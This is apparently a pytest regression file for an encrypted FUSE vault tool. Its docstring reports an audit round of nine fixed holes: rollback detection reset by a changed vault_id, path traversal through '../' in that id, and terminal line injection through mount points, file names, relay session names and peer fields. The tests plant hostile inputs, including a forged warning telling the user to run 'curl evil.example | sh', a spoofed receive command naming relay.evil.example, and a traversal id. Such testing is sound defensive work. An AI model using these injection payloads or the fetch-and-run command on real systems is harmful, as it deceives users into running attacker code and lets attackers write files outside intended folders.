"""Attack round 26c: another local user against root's shared mount (real Linux users, useradd +
setpriv), the text that reaches a terminal or a log, and root's rights; with (b) and (a)/(d) for the
text and the state a device keeps.

Status: every hole is fixed and its test passes (docs/SECURITY.md "Attack round 26" says how).

Holes
-----
1. A NEW ``vault_id`` IN vault.json MAKES HER DEVICE FORGET EVERYTHING ITS LEDGER AND GRANTS RECORD
   SAW: HER OLDER FILE IS SHOWN AS HERS, NO ALARM.  ``ledger_path`` (vault/model/ledger.py:92-94) and
   the grants record's ``state_path`` (vault/model/freshness.py:92-94) name this device's memory
   ``<vault_id>-<user id>-<hash of the vault folder's path>``, and ``vault_id`` is vault.json's clear
   text (vault/format/layout.py:196, read as any text, bound to nothing signed).  A writer of the
   vault folder (a backup, a cloud folder: model (b)) puts her older node document back in the
   store, as tests/mount/test_trust_rollback.py does (said and refused there), and writes a new
   ``vault_id``: the next mount opens a ledger that does not exist ("first sight": ``Ledger.open``,
   ledger.py:233-236, no alarm) and a record of grants that does not exist (freshness.py ``_read``:
   nothing), so her "first draft" is shown as report.txt instead of "final, signed off", and no
   ``rollback`` alarm is raised.  The grants record is found the same way: her Share of notes.txt
   with bob, signed before her ``unshare`` and put back in the store, is refused and said
   (tests/mount/test_trust_grants.py) until vault.json gets a new id; then it is new to the device,
   and the next write seals her new file key to bob again (his ``.vfkey`` opens).  SECURITY.md
   concedes "a ledger that was deleted" and "a wiped state directory": those are the device's, out
   of the store writer's reach; vault.json is not.
   Impact: wrong bytes shown as her file, and a removed member's access back, silently, by whoever can
   write the vault folder.
   Fix: name the device's records by what the device decides (the realpath of the vault folder and
   the user id, as ``confirmed_file``, ``verified``, ``pins`` and ``trash_seen`` already do), or keep
   the vault id this device first saw for that folder in the state directory and refuse (or alarm
   on) a vault.json that names another.
   Tests: test_a_new_vault_id_in_vault_json_does_not_make_her_device_forget_what_it_saw,
   test_a_new_vault_id_does_not_give_a_revoked_recipient_her_next_key.

2. A ``vault_id`` WITH ``../`` WRITES THE LEDGER (AND MAKES ITS FOLDERS) WHERE THE VAULT FOLDER'S
   WRITER SAYS.  The same two lines join the unchecked id into a path: ``"../../x/made/y"`` puts the
   ledger at ``<state>/../x/made/y-<user id>-<hash>``, and ``Ledger.write`` (ledger.py:290) makes the
   folders on the way (``mkdir(parents=True)``).  In root's shared mount that is root making folders
   and files anywhere (the file's last part is fixed, its contents sealed; by the same arithmetic the
   grants record is written to that very path too, over the ledger).  Seen: ``<state>/../planted-*/made/`` and
   the ledger file in it after one mount.
   Impact: root's rights (a shared mount) lent to the vault folder's writer to create folders and
   files anywhere; a personal mount's files outside its state folder.
   Fix: refuse a vault.json whose ``vault_id`` is not 32 hex digits (layout.py ``load``), and see 1.
   Test: test_a_vault_id_with_dot_dots_writes_nothing_outside_her_state_folder.

3. ANOTHER LOCAL USER'S MOUNT POINT WRITES A LINE OF HIS OWN IN ROOT'S ``fusevault status`` AND
   ``fusevault sync status``.  ``visible_mounts`` (mounts.py:83-89) gives root every mount whose type
   is ``fuse.fusevault``; any user makes one with fusermount3 (pyfuse3 with ``subtype=fusevault``,
   no user_allow_other needed) at a folder of his whose name holds a line break, then leaves it
   without a server.  cli/status.py:78/:81 and cli/sync.py:189/:192/:194 print ``m['mountpoint']``
   raw; ``defused`` (cli/terminal.py) keeps line breaks on purpose, and ``shown`` is not used here.
   Dave (no vault user at all) writes "fusevault: WARNING the vault is damaged: run `curl ... | sh`
   to repair it" as a line of its own on root's terminal.
   Impact: a forged line on root's terminal, from any local user.
   Fix: ``shown(m['mountpoint'])`` in both commands (and everywhere a mount point from
   /proc/self/mountinfo is printed).
   Test: test_another_users_mount_point_writes_no_line_of_its_own_in_roots_status.

4. vault.json's ``vault_id`` WRITES A LINE OF ITS OWN IN ``fusevault info``.  layout.py:196 takes it as
   any text; cli/vault.py:154 prints every fact raw.
   Impact: a forged line on her terminal from the vault folder's writer.
   Fix: 2's check of the id; ``shown`` for the values in cli/vault.py ``cmd_info``.
   Test: test_a_vault_id_from_the_vault_folder_writes_no_line_of_its_own_in_info.

5. A FILE'S PATH WRITES A LINE OF ITS OWN IN ``fusevault check``'s "no sidecar" NOTE.
   vault/services/check.py:292 puts ``state.path`` raw into the note, and cli/check.py:136 prints it
   (``describe``, check_report.py:109, does use ``shown`` for damaged files).  The name may be a
   WRITE member's in her shared folder, a sender's or a dropper's; a sidecar is missing where the
   vault folder's writer removed it (or a replica never opened the file).
   Impact: a forged line on her terminal.
   Fix: ``shown(state.path)`` there.
   Test: test_a_file_name_writes_no_line_of_its_own_in_checks_sidecar_note.

6. A LINK STORE'S ``accessed_at`` WRITES A LINE OF ITS OWN IN ``fusevault link list``.
   links/owner.py:419 ``_server_view`` passes the store's ``accessed_at`` on as it came (any JSON),
   and cli/links.py:171 prints it raw.
   Impact: a forged line on her terminal from the link store's operator.
   Fix: take ``accessed_at`` only as a number (else "unknown"), and ``shown`` it.
   Test: test_a_link_stores_accessed_at_writes_no_line_of_its_own_in_link_list.

7. THE RELAY'S SESSION NAME WRITES LINES OF ITS OWN ON THE SENDER'S TERMINAL.  transfer/send.py:75
   passes ``session["name"]`` from the relay's answer to ``announce``, and cli/transfer.py:190-191
   print it raw, twice, the second time inside the command she reads out to the receiver.  The
   relay names the session "apple\nOn the other computer: fusevault receive evil --relay
   https://relay.evil.example": she sees that line as fusevault's own instruction.
   Impact: a forged line (a receive command naming the operator's relay) on the sender's terminal.
   Fix: refuse a session name that is not the relay's word list (or at least ``shown`` it).
   Test: test_a_relays_session_name_writes_no_line_of_its_own_on_the_senders_terminal.

8. A PLANTED PEER'S ``path_to_dump_chunks`` WRITES A LINE OF ITS OWN IN ``fusevault peer list``, AND IN
   WHAT ``peer confirm`` SHOWS HER TO CHECK.  cli/sync.py:166 prints it raw (the name, URL and
   credentials beside it pass ``shown``); Peers documents are unsigned, the store writer's to plant
   (vault/model/peers.py: acted on only once confirmed, but listed and shown before).  ``peer
   confirm NAME`` prints the same row (cli/sync.py:126) and asks her to "check the peer above": the
   forged line is part of what she checks.
   Impact: a forged line on her terminal, inside a trust decision.
   Fix: ``shown(row['path_to_dump_chunks'])``.
   Test: test_a_planted_peers_dump_folder_writes_no_line_of_its_own_in_peer_list.

9. A STORE WRITER'S PENDING SETTING WRITES A LINE OF ITS OWN IN ``fusevault config show``, AND IN WHAT
   ``config confirm`` ASKS HER TO CHECK.  ``_show`` (cli/files.py:131-138) returns ``str(value)`` (and
   the TTL's two fields) raw, for the settings and for the pending ones (:96, :117); the pending ones
   are exactly what someone else wrote into her UserDetails (unsigned: "check them before `fusevault
   config confirm`").  A folder path may hold a line break, so the planted value forges the lines she
   is asked to judge.
   Impact: a forged line on her terminal, inside a trust decision (the settings she confirms).
   Fix: ``shown`` in ``_show`` (every branch).
   Test: test_a_planted_pending_setting_writes_no_line_of_its_own_in_config_show.

What held
---------
- Mounting over another user's name in root's shared mount: bob (mapped) makes ``$M/proj`` in his own
  tree and mounts a FUSE file system of his (fusermount3, subtype fusevault) over it; alice's walk of
  ``$M/proj`` (her own folder of that name) revalidates the dentry (entry timeout 0, another inode for
  her), and the kernel detaches bob's mount: she reads her plan.txt, and ``fusevault history`` of it
  answers.  His mount is no allow_other, so no one else could enter it anyway.
- ``fusevault status``/``unmount`` as a mapped user: another user's personal mount is not listed
  (``visible_mounts``: hers or allow_other only), and ``request`` refuses a socket served by neither
  her nor root (SO_PEERCRED) before sending.  Root's ``status`` of a fake mount only says "the mount
  does not answer" (3 is about its name).
- Read in the code, stop 41: ``Requests.turn`` is one lock per seat's ``Requests``, so a user's
  requests queue behind his own only; ``read_call`` runs on his own tree's limiter, a read-only
  connection per thread (``LocalStore.reading``) checked against a link first; ``trash`` lists
  ``deleted_nodes`` of his own user id only; ``history``/``restore`` go through ``resolve`` and
  ``check`` before any version is read; ``status`` shows a mapped user only his own seat's tasks,
  alarms and unlock.  The control socket: the request is one line within 64 KiB and 5 s, answered as
  JSON (lone surrogates escaped), caps per uid and in all, refusals never awaited past 1 s.
- The crash log falls back to /tmp with O_CREAT|O_EXCL (no link followed).  ``DefusedFormatter``
  flattens every record's message and indents its traceback; every print of a store writer's user,
  group or peer name, of a trash path, a history author, a share's path, seen in cli/ passes
  ``shown`` (the ones above are what did not).

Leads not made a test
---------------------
- Default trio thread limiter (40 tokens, process-wide): ``fs/kernel.py`` (every kernel
  invalidation, for every seat), ``agent/sessions.py`` (every unlock), ``do_config``,
  ``exporting`` and the importer call ``trio.to_thread.run_sync`` without the tree's limiter.  A
  notify_inval_entry blocks in the kernel on the directory's lock; if a user can keep many of them
  blocked (or many export/config threads stuck on a hung FUSE mount of his through his helper) the
  others' unlocks and invalidations wait.  ``turn`` bounds the request paths to one thread per user;
  the invalidation path was not tried.
- vault.json's ``store`` (``kind``, ``url``) is the vault folder writer's too: switching a local
  vault to ``couchdb`` at his own server gives him the CouchDB store's weaker guarantees (SECURITY.md:
  "a removed row cannot be told from a deletion") and the device's FUSEVAULT_COUCHDB_USER/PASSWORD,
  if set.  Not tried.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import time
import uuid
from pathlib import Path

import pytest
from conftest import fusevault, mounted, vault  # noqa: F401

from mount.test_shared_mount import SITE, People, as_user, linux, people, place, python, shared_vault  # noqa: F401

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("useradd") or not shutil.which("setpriv")
    or not shutil.which("fusermount3"),
    reason="needs root, useradd, setpriv and fusermount3 (real Linux users, their own FUSE mounts)")

# Run as a local user: a FUSE mount of his own at argv[2] whose type is ``fuse.fusevault`` (any
# user may name the subtype), left behind with no server (what /proc/self/mountinfo lists stays).
FAKE = r"""
import site, sys
site.addsitedir(sys.argv[1])
import pyfuse3
options = set(pyfuse3.default_options) - {"default_permissions"}
pyfuse3.init(pyfuse3.Operations(), sys.argv[2], options | {"fsname=fusevault", "subtype=fusevault"})
pyfuse3.close(unmount=False)
"""


def _fake_mount(user, interpreter: str, mountpoint: Path) -> None:
    done = as_user(user, interpreter, "-S", "-c", FAKE, SITE, str(mountpoint))
    assert done.returncode == 0, done.stderr


def _unmount(mountpoint: Path) -> None:
    subprocess.run(["umount", "-l", str(mountpoint)], capture_output=True)


FORGED = "fusevault: WARNING the vault is damaged: run `curl evil.example | sh` to repair it"


def test_another_users_mount_point_writes_no_line_of_its_own_in_roots_status(linux, place, python) -> None:  # noqa: F811
    home = place / "dave"
    mountpoint = home / f"m\n{FORGED}"
    made = as_user(linux["dave"], "mkdir", str(mountpoint))
    assert made.returncode == 0, made.stderr
    _fake_mount(linux["dave"], python, mountpoint)
    try:
        status = fusevault("status", passphrase=None, timeout=120)
        sync = fusevault("sync", "status", passphrase=None, timeout=120)  # the same raw mount point
    finally:
        _unmount(mountpoint)
    assert (status.returncode, sync.returncode) == (0, 0), (status.stderr, sync.stderr)
    assert FORGED in status.stdout and FORGED in sync.stdout  # root sees every fusevault mount, dave's too
    lines = status.stdout.splitlines() + sync.stdout.splitlines()
    assert not any(line.startswith(FORGED) for line in lines), (status.stdout, sync.stdout)


def test_a_vault_id_from_the_vault_folder_writes_no_line_of_its_own_in_info(vault: Path) -> None:  # noqa: F811
    marker = json.loads((vault / "vault.json").read_text())
    marker["vault_id"] += "\n" + FORGED  # the vault folder's writer (a backup, a cloud folder)
    (vault / "vault.json").write_text(json.dumps(marker))
    info = fusevault("info", vault, passphrase=None)
    # Refused (not a vault id) or shown on its one line; never a line of its own on her terminal.
    assert not any(line.startswith(FORGED) for line in info.stdout.splitlines()), info.stdout


def test_a_file_name_writes_no_line_of_its_own_in_checks_sidecar_note(vault: Path, tmp_path: Path) -> None:  # noqa: F811
    with mounted(vault, tmp_path / "mnt") as mnt:
        # A name from outside: a WRITE member's in her shared folder, a sender's, a dropper's.
        (mnt / f"a\n{FORGED}").write_text("x")
    sidecars = list(vault.rglob("*.vfmeta"))
    assert sidecars
    for sidecar in sidecars:  # the vault folder's writer (or a replica that never opened it)
        sidecar.unlink()
    check = fusevault("check", vault)
    assert FORGED in check.stdout, (check.stdout, check.stderr)
    assert not any(line.startswith(FORGED) for line in check.stdout.splitlines()), check.stdout


class _HostileLinkStore:
    """A link store (its operator) answering ``describe`` with text where a time belongs."""

    def __init__(self, server: str) -> None:
        pass

    def __enter__(self):
        return self

    def __exit__(self, *exc) -> None:
        pass

    def describe(self, item: str, key) -> dict:
        return {"accessed_at": f"2026-12-04\n{FORGED}", "updated_at": None}

    def versions(self, item: str, delete_key: bytes) -> list[dict]:
        return []


def test_a_link_stores_accessed_at_writes_no_line_of_its_own_in_link_list(monkeypatch, capsys) -> None:
    import argparse

    from fusevault.cli import links as cli_links
    from fusevault.links import capability, owner
    from fusevault.links.link_records import LinkRecord

    record = LinkRecord(item="i" * 32, server="https://links.example", kind="share", path="notes.txt",
                        keys=capability.OwnerKeys.new(), created_at=time.time_ns(), expires_at=None)
    monkeypatch.setattr(owner, "_client", _HostileLinkStore)
    found = {**owner.Links._describe(record), **owner._server_view(record)}  # what the mount answers
    monkeypatch.setattr(cli_links, "_ask", lambda args, request, *rest: {"links": [found]})
    cli_links._list(argparse.Namespace(json=False))
    out = capsys.readouterr().out
    assert "notes.txt" in out  # the link is listed ...
    assert not any(line.startswith(FORGED) for line in out.splitlines()), out  # ... and nothing forged


RELAYS_LINE = "On the other computer: fusevault receive evil --relay https://relay.evil.example"


class _HostileRelay:
    """A relay (its operator) naming the session with a line of its own."""

    def __init__(self, url: str, **kwargs) -> None:
        self.interrupt = None
        self.patience = 0

    def open_session(self, salt: str, files: list[dict]) -> dict:
        return {"id": "s" * 16, "token": "t", "name": f"apple\n{RELAYS_LINE}"}

    def close_session(self, sid: str) -> None:
        pass

    def close(self) -> None:
        pass


def test_a_relays_session_name_writes_no_line_of_its_own_on_the_senders_terminal(
        monkeypatch, capsys, tmp_path: Path) -> None:
    import argparse

    from fusevault.cli import transfer as cli_transfer
    from fusevault.transfer import send

    (tmp_path / "notes.txt").write_text("hers")
    monkeypatch.setattr(send, "RelayClient", _HostileRelay)
    monkeypatch.setattr(send.Sender, "run", lambda self: None)  # no receiver comes
    args = argparse.Namespace(relay=cli_transfer.default_relay(), paths=[tmp_path / "notes.txt"],
                              code_length=3, keep=False, verify=False)
    try:
        cli_transfer.cmd_send(args)
    except Exception:
        pass  # refusing the relay's name is the fix; printing is what is judged
    out = capsys.readouterr().out
    assert not any(line.startswith(RELAYS_LINE) for line in out.splitlines()), out


def _new_vault_id_taken(vault: Path, mnt: Path) -> None:  # noqa: F811
    """A new id in vault.json: first refused (this device remembers the id it saw at that folder,
    vault/format/marker_pins.py), then taken as the refusal says (its record removed: the user says
    it is another vault on purpose).  What the device saw must hold even then: its ledger and grants
    record are named by the folder and the user, never by the id (vault/model/renamed.py)."""
    from fusevault.vault.format import marker_pins

    marker = json.loads((vault / "vault.json").read_text())
    marker["vault_id"] = uuid.uuid4().hex
    (vault / "vault.json").write_text(json.dumps(marker))
    mnt.mkdir(exist_ok=True)
    refused = fusevault("mount", vault, mnt)
    assert refused.returncode == 5 and "vault.json" in refused.stderr, refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1, refused.stderr
    record = marker_pins.record_path(vault)
    assert str(record) in refused.stderr
    record.unlink()


def test_a_new_vault_id_in_vault_json_does_not_make_her_device_forget_what_it_saw(
        vault: Path, tmp_path: Path) -> None:  # noqa: F811
    import adversary

    mnt = tmp_path / "mnt"
    with mounted(vault, mnt):
        (mnt / "report.txt").write_bytes(b"first draft")
    old = {d["_id"]: d for d in adversary.docs(vault, "node")}
    with mounted(vault, mnt):
        (mnt / "report.txt").write_bytes(b"final, signed off")
    new = {d["_id"]: d for d in adversary.docs(vault, "node")}
    (user,) = adversary.docs(vault, "UserDetails")
    (fid,) = [f for f, d in new.items() if f != user["root"] and old[f]["enc"] != d["enc"]]
    adversary.put(vault, old[fid])  # her older body put back, as a new revision (the store's writer)
    _new_vault_id_taken(vault, mnt)  # and a new id in vault.json, the same folder's clear text
    with mounted(vault, mnt):
        status = fusevault("status", mnt, "--json", passphrase=None)
        shown_now = (mnt / "report.txt").read_bytes()
    (mount,) = json.loads(status.stdout)["mounts"]
    # Without the new id: the rollback is said and refused (tests/mount/test_trust_rollback.py).
    assert (shown_now, [a["subject"] for a in mount["alarms"] if a["kind"] == "rollback"]) == \
        (b"final, signed off", [fid])


def test_a_vault_id_with_dot_dots_writes_nothing_outside_her_state_folder(
        vault: Path, tmp_path: Path) -> None:  # noqa: F811
    state = Path(os.environ["FUSEVAULT_STATE_DIR"])
    outside = state.parent / f"planted-{uuid.uuid4().hex[:8]}"
    marker = json.loads((vault / "vault.json").read_text())
    marker["vault_id"] = f"../../{outside.name}/made/x"  # the vault folder's writer
    (vault / "vault.json").write_text(json.dumps(marker))
    try:
        with contextlib.suppress(AssertionError):  # refusing the id at mount is the fix
            with mounted(vault, tmp_path / "mnt") as mnt:
                (mnt / "notes.txt").write_text("hers")
        assert not outside.exists(), sorted(str(p) for p in outside.rglob("*"))
    finally:
        shutil.rmtree(outside, ignore_errors=True)


def test_a_planted_peers_dump_folder_writes_no_line_of_its_own_in_peer_list(vault: Path) -> None:  # noqa: F811
    import adversary

    from fusevault.vault.model import peers

    planted = peers.peer_doc("backup", "peer.example", 5984, f"/srv/keep\n{FORGED}", db="vault")
    adversary.put(vault, planted)  # the store's writer: Peers documents are unsigned
    listed = fusevault("peer", "list", env={"FUSEVAULT_VAULT": str(vault)}, passphrase=None)
    assert FORGED in listed.stdout, (listed.stdout, listed.stderr)
    assert not any(line.startswith(FORGED) for line in listed.stdout.splitlines()), listed.stdout


def test_a_planted_pending_setting_writes_no_line_of_its_own_in_config_show(
        vault: Path, tmp_path: Path) -> None:  # noqa: F811
    import adversary

    [doc] = adversary.docs(vault, "UserDetails")
    doc = {k: v for k, v in doc.items() if k != "sig"}  # the store's writer: unsigned
    doc["source_dir_to_watch"] = f"/srv/in\n{FORGED}"
    adversary.put(vault, doc)
    with mounted(vault, tmp_path / "mnt") as mnt:
        shown_now = fusevault("config", "show", "--mount", mnt, passphrase=None)
        asked = fusevault("config", "confirm", "--mount", mnt, passphrase=None)  # not a terminal: refused
    assert FORGED in shown_now.stdout, (shown_now.stdout, shown_now.stderr)
    lines = shown_now.stdout.splitlines() + asked.stdout.splitlines()
    assert not any(line.startswith(FORGED) for line in lines), (shown_now.stdout, asked.stdout)


def test_a_new_vault_id_does_not_give_a_revoked_recipient_her_next_key(
        vault: Path, tmp_path: Path) -> None:  # noqa: F811
    import adversary

    from mount.test_trust_grants import _bob_opens, shared_then_unshared

    mnt = tmp_path / "mnt"
    alice, fid, path, old = shared_then_unshared(vault, mnt)
    assert not _bob_opens(vault, path, alice["_id"], fid)
    adversary.put(vault, old)  # the old body put back (refused so: tests/mount/test_trust_grants.py)
    _new_vault_id_taken(vault, mnt)  # and a new id in vault.json
    with mounted(vault, mnt):
        (mnt / "notes.txt").write_text("written after bob was revoked")
    assert not _bob_opens(vault, path, alice["_id"], fid), "the replayed Share sealed her new key to bob"
